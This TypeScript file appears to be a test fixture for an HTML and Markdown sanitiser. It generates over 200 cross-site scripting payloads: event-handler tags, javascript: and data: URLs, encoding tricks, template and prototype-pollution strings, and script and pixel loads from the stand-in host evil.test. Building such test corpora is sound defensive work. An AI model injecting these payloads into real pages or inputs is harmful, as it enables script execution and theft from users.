const call = 'canary(1)'

/** Markup that runs by itself, once anybody takes it for markup. */
const elements = [
  ...[
    'img src=x',
    'video src=x',
    'audio src=x',
    'object data=x',
    'embed src=x',
    'link rel=stylesheet href=x',
  ].map((element) => `<${element} onerror=${call}>`),
  ...['svg', 'body', 'iframe', 'style', 'math', 'marquee', 'details open'].map(
    (element) => `<${element} onload=${call} ontoggle=${call} onstart=${call}>`,
  ),
  ...['input', 'select', 'textarea', 'button', 'a href=#'].map(
    (element) => `<${element} autofocus onfocus=${call}>`,
  ),
  `<script>${call}</script>`,
  `<script src="//evil.test/x.js"></script>`,
  `<script type=module>${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe src="javascript:parent.${call}">`,
  `<object data="data:text/html,<script>parent.${call}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  '<meta http-equiv=refresh content="0;url=http://evil.test/">',
  '<base href="http://evil.test/">',
  '<style>@import "http://evil.test/x.css"</style>',
  '<style>*{background:url(http://evil.test/x)}</style>',
  '<img src="http://evil.test/pixel">',
  '<img srcset="http://evil.test/pixel 2x">',
  `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><img src=x onerror=${call}></template>`,
  `<form action="javascript:${call}"><button autofocus>x</button></form>`,
]

/** Ways out of the place that a text stands in. */
const escapes = ['', '">', "'>", '</title>', '</textarea>', '</script>', '</style>', '-->', ']]>', '`-->']

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `java\tscript:${call}`,
  `javascript&colon;${call}`,
  `&#106;avascript:${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=`,
  'file:///etc/passwd',
  '//evil.test/x',
  'app://evenkeel@evil.test/',
]

/** How Markdown and HTML turn an address into something to click on or to load. */
const links: readonly ((address: string) => string)[] = [
  (address) => `[pay](${address})`,
  (address) => `![pay](${address})`,
  (address) => `<${address}>`,
  (address) => `[pay][1]\n\n[1]: ${address}`,
  (address) => `<a href="${address}">pay</a>`,
  (address) => `<a href='${address}' target=_blank>pay</a>`,
]

const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
  `';${call};//`,
  `\\";${call};//`,
  `\u003cimg src=x onerror=${call}\u003e`,
  `&lt;img src=x onerror=${call}&gt;`,
  `＜img src=x onerror=${call}＞`,
  `\u202E>1=rorrrno x=crs gmi<\u202C`,
]

/** At least 200 texts that call `canary()` or leave our address wherever anybody takes them for markup. */
export const xssPayloads: readonly string[] = [
  ...elements,
  ...escapes.flatMap((way) => [elements[0], elements[6], elements[18]].map((element) => `${way}${element}`)),
  ...links.flatMap((link) => addresses.map(link)),
  ...elements.map((element) => `# ${element}\n\n> ${element}\n\n\`\`\`html\n${element}\n\`\`\``),
  ...templates,
  ...addresses,
]
